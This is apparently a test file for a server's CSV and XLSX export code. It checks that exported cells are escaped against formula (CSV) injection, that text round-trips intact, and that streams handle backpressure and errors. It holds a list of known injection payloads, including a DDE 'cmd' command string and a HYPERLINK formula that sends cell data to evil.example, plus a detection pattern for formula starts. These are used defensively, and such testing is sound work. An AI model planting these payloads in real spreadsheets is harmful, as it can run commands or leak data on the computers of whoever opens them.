import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import type { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import type { Cell, Heading } from '../../server/exports/cells.ts'
import { csvCell, csvFile } from '../../server/exports/csv.ts'
import { columnName } from '../../server/exports/sheet.ts'
import { xlsxFile } from '../../server/exports/xlsx.ts'
import { readCsv, readSheet } from '../support/xlsx.ts'

const NOW = new Date('2026-11-24T11:02:00Z')
const HEADINGS: Heading[] = [
  { label: 'Text', width: 20, kind: 'text' },
  { label: 'Number', width: 10, kind: 'number' },
  { label: 'Time', width: 19, kind: 'instant' },
]
async function* rows(...parts: Cell[][][]) {
  yield* parts
}
const bytesOf = (stream: Readable) => buffer(stream)
/** The cells that a program reads from a CSV file with these lines, without the row of headings. */
const csv = async (...lines: Cell[][]) =>
  readCsv((await bytesOf(csvFile(HEADINGS, rows(lines)))).toString('utf8')).slice(1)
const sheet = async (...lines: Cell[][]) => readSheet(await bytesOf(xlsxFile(HEADINGS, rows(lines), NOW)))

/**
 * Typed texts that have made spreadsheets run code (OWASP, CSV injection), and some that get past a simple
 * check.
 */
const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?x="&A1,"Error")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t+254',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1"',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\ufe661+1',
  '+254712345678',
  '-',
]
/** The cells in a simple program for which `;` and tabs also separate cells and quotes have no meaning. */
const naively = (cell: string) => cell.split(/[;\t\r\n]/)
/**
 * The start of a formula in a cell: a character like `=`, also full-width, or after spaces, quotes or
 * invisible characters.
 */
const FORMULA_START =
  /^[\s"\u200b-\u200d\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b]/

describe('T33 exported cells calculate nothing', () => {
  for (const text of FORMULAS) {
    test(`CSV ${JSON.stringify(text)}`, async () => {
      const [[read = ''] = []] = await csv([text, null, null])
      assert.ok(read.startsWith("'"), read)
      for (const part of naively(read)) assert.doesNotMatch(part, FORMULA_START)
      // Checks that the file differs from the data only by added apostrophes.
      assert.equal(read.replaceAll("'", ''), text.replaceAll("'", ''))
    })
    test(`XLSX ${JSON.stringify(text)}`, async () => {
      const { rows: read, xml } = await sheet([text, null, null])
      assert.equal(read[1]?.A, text.replaceAll(/\r\n?/g, '\n'))
      assert.doesNotMatch(xml, /<f[ >]/)
      assert.match(xml, /<c r="A2" s="3" t="inlineStr">/)
    })
  }
  test('any typed text comes back from CSV as it was, except for apostrophes, and no part of it starts a formula', async () => {
    const piece = fc.oneof(
      fc.constantFrom(...FORMULAS, ';', ',', '"', '""', '\r\n', '\n', '\t', "'", ' '),
      fc.string({ unit: 'grapheme', maxLength: 8 }),
    )
    const typed = fc.array(piece, { maxLength: 5 }).map((parts) => parts.join(''))
    await fc.assert(
      fc.asyncProperty(fc.array(typed, { minLength: 1, maxLength: 5 }), async (texts) => {
        const read = await csv(...texts.map((text) => [text, 1, NOW]))
        assert.equal(read.length, texts.length)
        for (const [index, [cell = '']] of read.entries()) {
          for (const part of naively(cell)) assert.doesNotMatch(part, FORMULA_START)
          assert.equal(cell.replaceAll("'", ''), texts[index]?.replaceAll("'", ''))
        }
      }),
      { seed: 2_026, numRuns: 300 },
    )
  })
  test('plain text stays as it is', () => {
    for (const text of [
      'Wanjiru Ng’ang’a',
      "O'Brien",
      'a=b',
      'Jean-Pierre',
      'me@example.com',
      'Box 1 - Garissa',
      '',
    ])
      assert.equal(csvCell(text), text)
    assert.equal(csvCell('Kamau, J.'), '"Kamau, J."')
    assert.equal(csvCell('say "yes"'), '"say ""yes"""')
  })
})

describe('exported files are what they say', () => {
  test('XLSX: any text comes back as it was, without what XML cannot hold', async () => {
    const odd = [
      '\u0000a\u0007b',
      'half \ud800 letter',
      '\ufffe\uffff',
      ']]>',
      '<b>&amp;</b>',
      '_x0041_',
      '  spaces  ',
      'two\r\nlines',
      '🗳️',
      '"quoted"',
      'x'.repeat(40_000),
    ]
    const { rows: read } = await sheet(...odd.map((text): Cell[] => [text, null, null]))
    const wanted = [
      'ab',
      'half  letter',
      '',
      ']]>',
      '<b>&amp;</b>',
      '_x0041_',
      '  spaces  ',
      'two\nlines',
      '🗳️',
      '"quoted"',
      'x'.repeat(32_767),
    ]
    assert.deepEqual(
      read.slice(1).map(({ A }) => A),
      wanted,
    )
  })
  test('XLSX: numbers and times are written as numbers; an empty value or NaN has no cell', async () => {
    const { rows: read, xml } = await sheet(['0712', 12, NOW], [null, null, null], ['', Number.NaN, NOW])
    // Spreadsheets count days from 30 December 1899. This time is 24 November 2026, 14:02 in Nairobi.
    assert.deepEqual(read.slice(1), [
      { A: '0712', B: 12, C: 46_350.584_722_222_22 },
      {},
      { C: 46_350.584_722_222_22 },
    ])
    assert.match(xml, /<cols><col min="1" max="1" width="20" customWidth="1"\/>/)
  })
  test('columns are named as spreadsheets name them', () => {
    assert.deepEqual([0, 25, 26, 51, 52, 701, 702].map(columnName), ['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA'])
  })
  test('a file without a line has its heading', async () => {
    assert.deepEqual(await csv(), [])
    assert.equal((await sheet()).rows.length, 1)
  })
  for (const [name, file] of [
    ['CSV', csvFile],
    ['XLSX', (headings: Heading[], lines: AsyncIterable<Cell[][]>) => xlsxFile(headings, lines, NOW)],
  ] as const) {
    const endlessPages = (seen: { pages: number; ended: boolean }) =>
      (async function* () {
        try {
          for (;;) {
            seen.pages++
            // Random text, so that compression cannot shrink it.
            yield Array.from({ length: 500 }, (): Cell[] => [randomBytes(150).toString('base64'), 1, NOW])
          }
        } finally {
          seen.ended = true
        }
      })()
    test(`${name}: little is made ahead of the reader, and nothing once the reader has left`, {
      timeout: 10_000,
    }, async () => {
      const seen = { pages: 0, ended: false }
      const stream = file(HEADINGS, endlessPages(seen))
      const closed = new Promise((done) => stream.once('close', done))
      await new Promise((done) => stream.once('readable', done))
      while (seen.pages === 0) {
        stream.read()
        await new Promise((done) => setImmediate(done))
      }
      for (let turn = 0; turn < 200; turn++) await new Promise((done) => setImmediate(done))
      assert.ok(seen.pages < 20, `${seen.pages} pages ahead`)
      stream.destroy()
      await closed
      while (!seen.ended) await new Promise((done) => setImmediate(done))
      const { pages } = seen
      for (let turn = 0; turn < 50; turn++) await new Promise((done) => setImmediate(done))
      assert.equal(seen.pages, pages)
    })
    test(`${name}: if reading the rows fails, the file ends with the error`, async () => {
      const failing = (async function* (): AsyncGenerator<Cell[][]> {
        yield [['first', 1, NOW]]
        throw new Error('the database is away')
      })()
      await assert.rejects(bytesOf(file(HEADINGS, failing)), /the database is away/)
    })
  }
})
